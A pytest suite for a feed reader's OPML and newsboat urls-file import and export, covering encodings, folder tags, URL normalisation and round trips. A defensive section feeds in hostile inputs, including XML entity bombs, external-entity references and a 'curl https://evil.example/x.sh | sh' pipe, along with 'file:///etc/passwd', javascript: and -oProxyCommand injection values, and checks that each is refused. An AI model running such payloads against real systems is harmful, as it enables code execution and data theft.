"""Subscriptions in and out: OPML import/export and newsboat's urls file, on real exports and
hostile files."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import defusedxml.ElementTree as SafeET
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.helpers import DATA, SHARED
from tests.server import LocalServer
from tui.feeds.opml import (
    MAX_FOLDER_DEPTH,
    ImportResult,
    Subscription,
    normalise_url,
    read_newsboat_urls,
    read_opml,
    translate_newsboat_filter,
    write_opml,
)
from tui.content.sanitize import clean_line
from tui.feeds.parse import repair_mojibake

OPML = DATA / "opml"

# The subscriptions tests/data/opml/docbao-export.opml was written from.
DOCBAO_EXPORT = [
    Subscription("https://example.org/feed.xml", "Example News", ["news", "tech & science"]),
    Subscription("https://blog.example.net/atom.xml", 'Blog "quoted" <Đọc báo>', ["tech"]),
    Subscription("http://example.com/rss?id=1&lang=vi", "Tin tức", ["vietnam", "news"]),
    Subscription("https://hidden.example.org/feed", "Hidden", ["misc"], hidden=True),
    Subscription("https://untagged.example.org/rss.xml", "", []),
]


def by_url(subs: list[Subscription]) -> dict[str, tuple[str, frozenset[str], bool]]:
    """Subscriptions compared as a user sees them: order of feeds and of tags aside."""
    return {s.url: (s.title, frozenset(s.tags), s.hidden) for s in subs}


def feed_outline_urls(data: bytes) -> list[str]:
    """Every xmlUrl in an OPML file, read independently of tui.feeds.opml."""
    root = SafeET.fromstring(data)
    return [
        value.strip()
        for outline in root.iter()
        for key, value in outline.attrib.items()
        if key.lower() == "xmlurl" and value.strip()
    ]


def assert_nothing_lost(data: bytes, result: ImportResult) -> None:
    """Every feed in the file is a subscription or a reported skip."""
    imported = {normalise_url(s.url) for s in result.subscriptions}
    skipped = {what for what, _ in result.skipped}
    for url in feed_outline_urls(data):
        assert clean_line(url) in skipped or normalise_url(url) in imported, url


# --- real OPML ------------------------------------------------------------------------------


def _corpus_opml_rows() -> list[dict[str, str]]:
    manifest = SHARED / "corpus" / "MANIFEST.tsv"
    if not manifest.exists():
        return []
    with manifest.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle, delimiter="\t", quoting=csv.QUOTE_NONE))
    return [r for r in rows if "opml" in r["path"].lower() or "opml" in r["format"].lower()]


@pytest.mark.parametrize("row", _corpus_opml_rows() or [None], ids=lambda r: r["path"] if r else "none")
def test_corpus_opml_imports_without_loss(row: dict[str, str] | None) -> None:
    if row is None:
        pytest.skip("the shared corpus holds no OPML file")
    data = (SHARED / "corpus" / row["path"]).read_bytes()
    result = read_opml(data)
    assert result.subscriptions
    assert_nothing_lost(data, result)


def test_newsboat_export_keeps_every_feed_and_title() -> None:
    """newsboat's own export (tests/data/opml/README.md says how it was made) imports with the
    URLs and custom titles of the urls file it came from."""
    data = (OPML / "newsboat-export.opml").read_bytes()
    exported = read_opml(data)
    source = read_newsboat_urls((OPML / "newsboat-source.urls").read_text(encoding="utf-8"))
    assert [(s.url, s.title) for s in exported.subscriptions] == [
        (s.url, s.title) for s in source.subscriptions
    ]
    assert exported.skipped == []
    assert_nothing_lost(data, exported)
    titles = {s.url: s.title for s in exported.subscriptions}
    assert titles["https://blog.example.net/atom.xml"] == "Example Blog <Đọc báo>"
    assert titles["http://example.com/rss?id=1&lang=vi"] == "Tin tức"
    assert titles["https://quotes.example.org/feed"] == 'say "hi"'


def test_docbao_export_read_back_and_as_newsboat_imported_it() -> None:
    assert by_url(read_opml((OPML / "docbao-export.opml").read_bytes()).subscriptions) == by_url(
        DOCBAO_EXPORT
    )
    # newsboat files each feed once, under the first folder it meets: every feed arrives,
    # with one of the tags docbao gave it.
    imported = read_newsboat_urls((OPML / "newsboat-import-of-docbao.urls").read_text("utf-8"))
    original = {s.url: set(s.tags) for s in DOCBAO_EXPORT}
    assert [s.url for s in imported.subscriptions] != []
    assert {s.url for s in imported.subscriptions} == set(original)
    for sub in imported.subscriptions:
        assert set(sub.tags) <= original[sub.url]
        assert bool(sub.tags) == bool(original[sub.url])


def _run_newsboat(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"HOME": str(home), "PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8"}
    return subprocess.run(
        ["newsboat", *args], cwd=home, env=env, capture_output=True, text=True, timeout=60, check=True
    )


@pytest.mark.skipif(shutil.which("newsboat") is None, reason="newsboat is not installed")
def test_live_newsboat_reads_what_docbao_writes(tmp_path: Path) -> None:
    (tmp_path / "docbao.opml").write_bytes(write_opml(DOCBAO_EXPORT))
    (tmp_path / "urls").write_text("")
    _run_newsboat(tmp_path, "-u", "urls", "-i", "docbao.opml")
    imported = read_newsboat_urls((tmp_path / "urls").read_text("utf-8"))
    assert {s.url for s in imported.subscriptions} == {s.url for s in DOCBAO_EXPORT}


@pytest.mark.skipif(shutil.which("newsboat") is None, reason="newsboat is not installed")
def test_live_newsboat_export_matches_the_stored_one(tmp_path: Path) -> None:
    shutil.copy(OPML / "newsboat-source.urls", tmp_path / "urls")
    out = _run_newsboat(tmp_path, "-u", "urls", "-e").stdout.encode("utf-8")
    assert by_url(read_opml(out).subscriptions) == by_url(
        read_opml((OPML / "newsboat-export.opml").read_bytes()).subscriptions
    )


def test_nested_folders_become_tags() -> None:
    data = (OPML / "nested-folders.opml").read_bytes()
    result = read_opml(data)
    assert_nothing_lost(data, result)
    subs = {s.url: s for s in result.subscriptions}
    assert subs["https://baothainguyen.example.org/rss/thoi-su.rss"].tags == ["Tin tức", "Việt Nam"]
    assert subs["https://baothainguyen.example.org/rss/thoi-su.rss"].title == "Báo Thái Nguyên"
    # one feed in two folders: one subscription, both folder paths as tags
    assert [s.url for s in result.subscriptions].count("https://tintuc.example.org/rss/the-gioi.rss") == 1
    assert subs["https://tintuc.example.org/rss/the-gioi.rss"].tags == ["Tin tức", "Việt Nam", "Tech"]
    assert subs["https://tintuc.example.org/rss/the-gioi.rss"].title == "Thế giới"
    assert subs["https://world.example.com/rss"].title == "World"  # title wins over text
    assert subs["https://pods.example.com/feed.xml"].tags == ["Podcasts"]  # lowercase xmlurl
    assert subs["https://physics.example.org/atom.xml"].tags == ["Science", "Physics", "Reading"]
    assert subs["https://untitled.example.org/feed"].title == ""  # text that repeats the URL
    assert [s.url for s in result.subscriptions][:3] == [
        "https://baothainguyen.example.org/rss/thoi-su.rss",
        "https://tintuc.example.org/rss/the-gioi.rss",
        "https://world.example.com/rss",
    ]
    reasons = dict(result.skipped)
    assert "empty folder" in reasons["Empty folder"]
    assert "not a feed" in reasons["Just a link"]
    assert "not fetched" in reasons["https://example.com/more.opml"]


def test_bare_ampersands_in_urls_are_repaired() -> None:
    result = read_opml((OPML / "bare-ampersands.opml").read_bytes())
    assert [s.url for s in result.subscriptions] == [
        "https://example.com/rss.php?cat=1&lang=vi&format=rss2",
        "https://example.com/feed?a=1&b=2",
    ]


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="ISO-8859-1"?><opml version="1.0"><body>'
        '<outline text="Café" xmlUrl="https://cafe.example.org/rss"/></body></opml>'.encode("latin-1"),
        '<?xml version="1.0" encoding="UTF-16"?><opml version="2.0"><body>'
        '<outline text="Café" xmlUrl="https://cafe.example.org/rss"/></body></opml>'.encode("utf-16"),
        b"\xef\xbb\xbf\n  <?xml version='1.0'?><opml version='2.0'><body>"
        b"<outline text='Caf\xc3\xa9' xmlUrl='https://cafe.example.org/rss'/></body></opml>",
        b"<opml xmlns='http://opml.org/spec2' version='2.0'><body>"
        b"<outline text='Caf\xc3\xa9' xmlUrl='https://cafe.example.org/rss'/></body></opml>",
        '<?xml version="1.0" encoding="windows-1258"?><opml version="1.0"><body>'
        '<outline text="Cafe\u0301" xmlUrl="https://cafe.example.org/rss"/></body></opml>'.encode("cp1258"),
    ],
    ids=["latin-1", "utf-16-bom", "bom-and-blank-line", "namespaced", "windows-1258-nfd"],
)
def test_encodings_and_prologs(data: bytes) -> None:
    result = read_opml(data)
    assert [(s.url, s.title) for s in result.subscriptions] == [("https://cafe.example.org/rss", "Café")]


def test_multi_byte_declared_encoding() -> None:
    data = ('<?xml version="1.0" encoding="Shift_JIS"?><opml version="1.0"><body>'
            '<outline text="日本のニュース" xmlUrl="https://jp.example.org/rss"/></body></opml>')
    [sub] = read_opml(data.encode("shift_jis")).subscriptions
    assert sub.title == "日本のニュース"


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda t: f"<opml><body>{t}</body></opml>".encode()))
def test_any_bytes_give_a_result_or_a_value_error(data: bytes) -> None:
    try:
        result = read_opml(data)
    except ValueError:
        return
    assert all(s.url.startswith(("http://", "https://")) for s in result.subscriptions)


# --- not OPML -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "<rss>"),
        (b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>hi</body></html>", "well-formed"),
        (b'{"version": "https://jsonfeed.org/version/1.1", "items": []}', "well-formed"),
        (bytes(range(256)) * 4, "well-formed"),
        (b'<opml version="2.0"><head><title>no body</title></head></opml>', "no <body>"),
        (b'<opml version="2.0"><body><outline text="a" xmlUrl="https://a.example/f">', "well-formed"),
    ],
    ids=["empty", "blank", "rss", "html", "json", "binary", "no-body", "truncated"],
)
def test_not_opml_is_a_clear_value_error(data: bytes, says: str) -> None:
    with pytest.raises(ValueError, match="not an OPML file") as caught:
        read_opml(data)
    assert says in str(caught.value)


def test_corpus_feeds_and_pages_are_not_opml() -> None:
    corpus = SHARED / "corpus"
    if not corpus.exists():
        pytest.skip("the shared corpus is not available")
    for path in sorted(corpus.glob("rss2/*"))[:5] + sorted(corpus.glob("html-feed-discovery/*")):
        with pytest.raises(ValueError, match="not an OPML file"):
            read_opml(path.read_bytes())


# --- hostile OPML ---------------------------------------------------------------------------


def test_billion_laughs_is_refused_unexpanded() -> None:
    with pytest.raises(ValueError, match="entities") as caught:
        read_opml((OPML / "billion-laughs.opml").read_bytes())
    assert "lol" not in str(caught.value)


def test_quadratic_blowup_is_refused() -> None:
    big = "x" * 100_000
    data = (
        f'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY a "{big}">]><opml version="2.0"><body>'
        f'<outline text="{"&a;" * 20_000}" xmlUrl="https://example.org/f"/></body></opml>'
    ).encode()
    with pytest.raises(ValueError, match="entities"):
        read_opml(data)


def test_external_entity_never_reads_a_local_file() -> None:
    with pytest.raises(ValueError, match="entities") as caught:
        read_opml((OPML / "external-entity.opml").read_bytes())
    assert "root:" not in str(caught.value)


@pytest.mark.parametrize(
    ("doctype", "refused"),
    [
        ('<!DOCTYPE opml [<!ENTITY remote SYSTEM "{url}">]>', True),
        ('<!DOCTYPE opml [<!ENTITY % remote SYSTEM "{url}"> %remote;]>', True),
        ('<!DOCTYPE opml SYSTEM "{url}">', False),  # an external DTD is ignored, never loaded
    ],
    ids=["general-entity", "parameter-entity", "external-dtd"],
)
def test_external_references_are_never_fetched(server: LocalServer, doctype: str, refused: bool) -> None:
    url = server.route("/evil.dtd", b'<!ENTITY leak "leaked">', content_type="application/xml-dtd")
    data = (
        '<?xml version="1.0"?>' + doctype.format(url=url) + '<opml version="2.0"><body>'
        '<outline text="ok" xmlUrl="https://example.org/feed"/></body></opml>'
    ).encode()
    if refused:
        with pytest.raises(ValueError, match="entities"):
            read_opml(data)
    else:
        assert [s.url for s in read_opml(data).subscriptions] == ["https://example.org/feed"]
    assert server.hits("/evil.dtd") == []


def test_hostile_urls_are_skipped_with_reasons() -> None:
    data = (OPML / "hostile-urls.opml").read_bytes()
    result = read_opml(data)
    assert [s.url for s in result.subscriptions] == [
        "https://good.example.org/feed.xml",
        "https://titles.example.org/feed",
    ]
    assert_nothing_lost(data, result)
    reasons = dict(result.skipped)
    assert "javascript:" in reasons["javascript:alert(document.cookie)"]
    assert "javascript:" in reasons["JaVaScRiPt:alert(1)"]
    assert "file:" in reasons["file:///etc/passwd"]
    assert "data:" in reasons["data:application/rss+xml;base64,PHJzcy8+"]
    assert "never runs commands" in reasons["|curl https://evil.example/x.sh | sh"]
    assert "never runs commands" in reasons["exec:~/bin/fetch-feed.sh"]
    assert "never runs commands" in reasons["filter:~/bin/rewrite.py:https://example.org/feed"]
    assert "ftp:" in reasons["ftp://ftp.example.org/feed.xml"]
    for malformed in ("http://", "http://exa mple.com/feed", "http://example.com:99999/feed",
                      "https://-oProxyCommand=evil/feed"):
        assert "malformed" in reasons[malformed]
    assert "same feed as https://good.example.org/feed.xml" in reasons[
        "HTTPS://Good.Example.ORG:443/feed.xml#top"
    ]
    # escape sequences, control characters and bidi overrides are gone; markup stays text for the UI to escape
    title = result.subscriptions[1].title
    assert title == "Escape sequences in title [@click=app.quit] [/]"
    assert len(result.skipped) == 13  # every outline but the two feeds


def test_deep_nesting_does_not_exhaust_the_stack() -> None:
    depth = 20_000
    data = (
        '<opml version="2.0"><body>'
        + "".join(f'<outline text="level {i}">' for i in range(depth))
        + '<outline text="deep" xmlUrl="https://deep.example.org/feed"/>'
        + "</outline>" * depth
        + "</body></opml>"
    ).encode()
    result = read_opml(data)
    [sub] = result.subscriptions
    assert sub.tags == [f"level {i}" for i in range(MAX_FOLDER_DEPTH)]
    assert any("nested deeper" in why for _, why in result.skipped)


# --- writing --------------------------------------------------------------------------------


def test_write_files_a_feed_under_each_tag_and_untagged_at_top() -> None:
    data = write_opml(DOCBAO_EXPORT, title="Mine & <yours>")
    root = ET.fromstring(data)  # well-formed for any XML reader, not only ours
    assert root.get("version") == "2.0"
    assert root.findtext("head/title") == "Mine & <yours>"
    body = root.find("body")
    assert body is not None
    folders = {o.get("text"): [c.get("xmlUrl") for c in o] for o in body if o.get("xmlUrl") is None}
    assert folders == {
        "news": ["https://example.org/feed.xml", "http://example.com/rss?id=1&lang=vi"],
        "tech & science": ["https://example.org/feed.xml"],
        "tech": ["https://blog.example.net/atom.xml"],
        "vietnam": ["http://example.com/rss?id=1&lang=vi"],
        "misc": ["https://hidden.example.org/feed"],
    }
    top = [o.get("xmlUrl") for o in body if o.get("xmlUrl")]
    assert top == ["https://untagged.example.org/rss.xml"]
    blog = next(o for o in root.iter("outline") if o.get("xmlUrl") == "https://blog.example.net/atom.xml")
    assert blog.get("title") == blog.get("text") == 'Blog "quoted" <Đọc báo>'
    assert blog.get("type") == "rss"


def test_round_trip_is_identity() -> None:
    assert by_url(read_opml(write_opml(DOCBAO_EXPORT)).subscriptions) == by_url(DOCBAO_EXPORT)
    assert read_opml(write_opml([])).subscriptions == []


_hosts = st.from_regex(r"[a-z][a-z0-9-]{0,10}\.(example|test|vn)", fullmatch=True)
_paths = st.from_regex(r"(/[A-Za-z0-9._~%-]{0,8}){0,3}(\?[a-z]=[A-Za-z0-9&=]{0,10})?", fullmatch=True)
_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(st.sampled_from(["http", "https"]), _hosts, _paths, _text,
                  st.lists(_text, max_size=4), st.booleans()),
        max_size=12,
    )
)
def test_round_trip_property(rows: list[tuple[str, str, str, str, list[str], bool]]) -> None:
    subs: list[Subscription] = []
    seen: set[str] = set()
    for scheme, host, path, title, tags, hidden in rows:
        url = f"{scheme}://{host}{path}"
        if normalise_url(url) in seen:
            continue
        seen.add(normalise_url(url))
        subs.append(Subscription(url, title, tags, hidden))
    back = read_opml(write_opml(subs))
    assert back.skipped == []
    def kept(text: str) -> str:  # as written: clean, without the two characters XML cannot hold
        return clean_line(clean_line(text).replace("\ufffe", "").replace("\uffff", ""))

    expected = {
        s.url: (
            # a title that repeats the URL tells nothing; a double-encoded one is the feed's own, garbled
            "" if kept(s.title) in (s.url, "") or repair_mojibake(kept(s.title)) != kept(s.title)
            else kept(s.title),
            frozenset(t for t in map(kept, s.tags) if t),
            s.hidden,
        )
        for s in subs
    }
    assert by_url(back.subscriptions) == expected


# --- URLs -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "normal"),
    [
        ("HTTPS://Example.ORG:443/Feed.xml#top", "https://example.org/Feed.xml"),
        ("http://example.org:80", "http://example.org/"),
        ("http://example.org:8080/a?B=1", "http://example.org:8080/a?B=1"),
        ("https://example.org:80/x", "https://example.org:80/x"),
        ("  http://[::1]:80/feed  ", "http://[::1]/feed"),
        ("https://User:Pw@Example.org/f", "https://User:Pw@example.org/f"),
        ("https://Đọc-Báo.example/rss", "https://xn--c-bo-7na8zl15p.example/rss"),
        ("https://xn--c-bo-7na8zl15p.example/rss", "https://xn--c-bo-7na8zl15p.example/rss"),
    ],
)
def test_normalise_url(url: str, normal: str) -> None:
    assert normalise_url(url) == normal


def test_normalised_duplicates_merge_tags_and_keep_the_first_title() -> None:
    data = b"""<opml version="2.0"><body>
      <outline text="A"><outline text="First" xmlUrl="https://example.org/feed"/></outline>
      <outline text="B"><outline text="Second" xmlUrl="HTTPS://EXAMPLE.org:443/feed#x"/></outline>
      <outline text="C"><outline text="Third" xmlUrl="https://example.org/feed"/></outline>
    </body></opml>"""
    result = read_opml(data)
    assert result.subscriptions == [Subscription("https://example.org/feed", "First", ["A", "B", "C"])]
    # the differently spelled copy is reported; the same URL in another folder is just a tag
    assert len(result.skipped) == 1 and "merged" in result.skipped[0][1]


def test_feed_scheme_is_read_as_http() -> None:
    data = b"""<opml version="2.0"><body>
      <outline text="a" xmlUrl="feed://example.org/rss"/>
      <outline text="b" xmlUrl="feed:https://example.net/atom"/>
    </body></opml>"""
    assert [s.url for s in read_opml(data).subscriptions] == [
        "http://example.org/rss", "https://example.net/atom",
    ]


# --- newsboat's urls file -------------------------------------------------------------------


def test_newsboat_source_file() -> None:
    result = read_newsboat_urls((OPML / "newsboat-source.urls").read_text(encoding="utf-8"))
    assert result.subscriptions == [
        Subscription("https://example.org/feed.xml", "", ["news", "tech & science"]),
        Subscription("https://blog.example.net/atom.xml", "Example Blog <Đọc báo>", ["tech"]),
        Subscription("http://example.com/rss?id=1&lang=vi", "Tin tức", ["vietnam", "news"]),
        Subscription("https://hidden.example.org/feed", "Hidden feed", ["misc"], hidden=True),
        Subscription("https://untagged.example.org/rss.xml", "", []),
        Subscription("https://quotes.example.org/feed", 'say "hi"', []),
    ]
    assert result.searches == [("Unread news", "is:unread tag:news")]
    assert result.skipped == []


def test_a_newsboat_hidden_tag_becomes_a_folder_named_without_its_mark_and_is_reported() -> None:
    # newsboat hides a feed with a tag that starts with "!"; docbao shows every feed, so the
    # tag's name (without the "!") keeps those feeds together in one folder.
    result = read_newsboat_urls('http://a.example/Rss20JapanTimes.xml "~Japan Times" !hidden news\n'
                                'https://b.example/feed "!Old blogs (hidden)"\n')
    assert result.subscriptions == [
        Subscription("http://a.example/Rss20JapanTimes.xml", "Japan Times", ["hidden", "news"], hidden=True),
        Subscription("https://b.example/feed", "", ["Old blogs (hidden)"], hidden=True),
    ]
    assert [url for url, _ in result.changed] == ["http://a.example/Rss20JapanTimes.xml", "https://b.example/feed"]
    why = result.changed[0][1]
    assert why.startswith('line 1: the tag "!hidden" became "hidden"') and "hides" in why


def test_a_double_encoded_title_is_left_out_and_reported() -> None:
    # newsboat's export writes each feed's current title, which it may hold double-encoded;
    # docbao repairs the feed's own title, so pinning the broken one would keep it broken.
    data = """<opml version="1.0"><body>
      <outline type="rss" xmlUrl="https://cat.example/rss" title="CataluÃ±a" text="CataluÃ±a"/>
      <outline type="rss" xmlUrl="https://ru.example/rss" title="Ð¯Ð½Ð´ÐµÐºÑ.Ð" text="x"/>
      <outline type="rss" xmlUrl="https://fr.example/rss" title="Le Cercle Psy (à lire)" text="x"/>
    </body></opml>""".encode()
    result = read_opml(data)
    assert [(s.url, s.title) for s in result.subscriptions] == [
        ("https://cat.example/rss", ""), ("https://ru.example/rss", ""), ("https://fr.example/rss", "Le Cercle Psy (à lire)"),
    ]
    assert [url for url, _ in result.changed] == ["https://cat.example/rss", "https://ru.example/rss"]
    assert 'the title "CataluÃ±a" was left out' in result.changed[0][1]


def test_export_leaves_out_characters_xml_cannot_hold() -> None:
    # U+FFFE and U+FFFF are not XML characters: a title holding one made the whole export
    # unreadable (found by test_round_trip_property).
    data = write_opml([Subscription("https://a.example/rss", "Tin\ufffe mới\uffff", ["x\ufffey"])])
    [sub] = read_opml(data).subscriptions
    assert (sub.title, sub.tags) == ("Tin mới", ["xy"])


def test_docbao_export_marks_titles_that_are_only_the_feeds_own() -> None:
    own = Subscription("https://own.example/rss", "Its own title", ["tin"], title_from_feed=True)
    mine = Subscription("https://mine.example/rss", "My name for it", ["tin"])
    data = write_opml([own, mine])
    assert b'text="Its own title" title="Its own title"' in data  # other readers still see a name
    assert [(s.url, s.title) for s in read_opml(data).subscriptions] == [
        ("https://own.example/rss", ""), ("https://mine.example/rss", "My name for it"),
    ]


def test_newsboat_line_forms() -> None:
    text = "\n".join([
        "# comment",
        "",
        "   ",
        "\t# indented comment",
        "https://a.example/feed",
        "https://b.example/feed tag1 \"tag two\" '~not-a-title'",
        'https://c.example/feed "~Custom Title" "!"',
        "https://d.example/feed ! ~Unquoted",
        'https://e.example/feed "~first" "~second"',
        "https://f.example/feed#frag tag # comment \"~ignored\"",
        'https://g.example/feed "~unterminated title',
        'https://h.example/feed "~a \\"quoted\\" \\\\ word"',
        "\thttps://i.example/feed\ttabbed  \"\"",
        'https://j.example/feed mid"dle quo"ted',
        "https://a.example/feed second-line-tag",
    ])
    result = read_newsboat_urls(text)
    assert result.subscriptions == [
        Subscription("https://a.example/feed", "", ["second-line-tag"]),
        Subscription("https://b.example/feed", "", ["tag1", "tag two", "'~not-a-title'"]),
        Subscription("https://c.example/feed", "Custom Title", [], hidden=True),
        Subscription("https://d.example/feed", "Unquoted", [], hidden=True),
        Subscription("https://e.example/feed", "second", []),
        Subscription("https://f.example/feed#frag", "", ["tag"]),
        Subscription("https://g.example/feed", "unterminated title", []),
        Subscription("https://h.example/feed", 'a "quoted" \\ word', []),
        Subscription("https://i.example/feed", "", ["tabbed"]),
        Subscription("https://j.example/feed", "", ["middle quoted"]),
    ]
    assert result.skipped == []


def test_newsboat_commands_are_reported_and_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    text = "\n".join([
        f'"exec:touch {marker}" tag',
        f'"filter:touch {marker}:https://example.org/feed" tag',
        f"exec:touch\\ {marker}",
        "file:///home/user/local.xml local",
        "javascript:alert(1)",
        "https://ok.example/feed",
    ])
    result = read_newsboat_urls(text)
    assert [s.url for s in result.subscriptions] == ["https://ok.example/feed"]
    assert len(result.skipped) == 5
    for what, why in result.skipped[:3]:
        assert "never runs commands" in why and why.startswith("line ")
    assert "file:" in result.skipped[3][1]
    assert not marker.exists()


@pytest.mark.parametrize(
    ("expression", "query"),
    [
        ('unread = "yes"', "is:unread"),
        ('unread = "no"', "is:read"),
        ('unread != "yes"', "is:read"),
        ('title =~ "rust"', "title:rust"),
        ('title =~ "lãnh đạo"', 'title:"lãnh đạo"'),
        ('content =~ "election" and unread = "yes"', "election is:unread"),
        ('title !=~ "sponsored"', "-title:sponsored"),
        ('title !=~ "two words"', '-title:"two words"'),
        ('content !=~ "sponsored"', "-sponsored"),
        ('author =~ "Gruber"', "author:Gruber"),
        ('feedtitle =~ "heise"', "feed:heise"),
        ('tags # "news"', "tag:news"),
        ("age < 7", "after:7d"),
        ("age >= 30", "before:30d"),
        ('unread = "yes" AND tags # "tech" and title =~ "AI"', "is:unread tag:tech title:AI"),
    ],
)
def test_newsboat_filters_that_translate(expression: str, query: str) -> None:
    assert translate_newsboat_filter(expression) == query
    escaped = expression.replace('"', '\\"')
    result = read_newsboat_urls(f'"query:Saved:{escaped}"')
    assert result.searches == [("Saved", query)]


@pytest.mark.parametrize(
    ("expression", "why"),
    [
        ('unread = "yes" or flags # "s"', "`or`"),
        ('(unread = "yes")', "parentheses"),
        ('title =~ "^Breaking.*"', "regular expression"),
        ('author =~ "Jane Doe"', "single word"),
        ('flags # "s"', "no docbao equivalent"),
        ('content !=~ "two words"', "single words"),
        ('unread = "yes" and', "incomplete"),
        ("date between 1:5", "cannot read"),
        ('title =~ "a:b"', "cannot be written"),
        ('rating = "5"', "no docbao equivalent"),
    ],
)
def test_newsboat_filters_that_do_not_translate_are_reported(expression: str, why: str) -> None:
    escaped = expression.replace('"', '\\"')
    result = read_newsboat_urls(f'"query:Kept aside:{escaped}"\nhttps://ok.example/feed')
    assert result.searches == []
    [(what, reason)] = result.skipped
    assert what.startswith("query Kept aside:")
    assert reason.startswith("line 1:") and why in reason
    assert [s.url for s in result.subscriptions] == ["https://ok.example/feed"]


def test_newsboat_query_without_expression() -> None:
    result = read_newsboat_urls('"query:Nothing"\n"query::unread = \\"yes\\""')
    assert result.searches == []
    assert [why for _, why in result.skipped] == [
        "line 1: a query needs a name and an expression (query:Name:expr)",
        "line 2: a query needs a name and an expression (query:Name:expr)",
    ]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_urls_file_gives_a_result(text: str) -> None:
    result = read_newsboat_urls(text)
    assert all(s.url.startswith(("http://", "https://")) for s in result.subscriptions)
    for _, query in result.searches:
        assert query.strip()
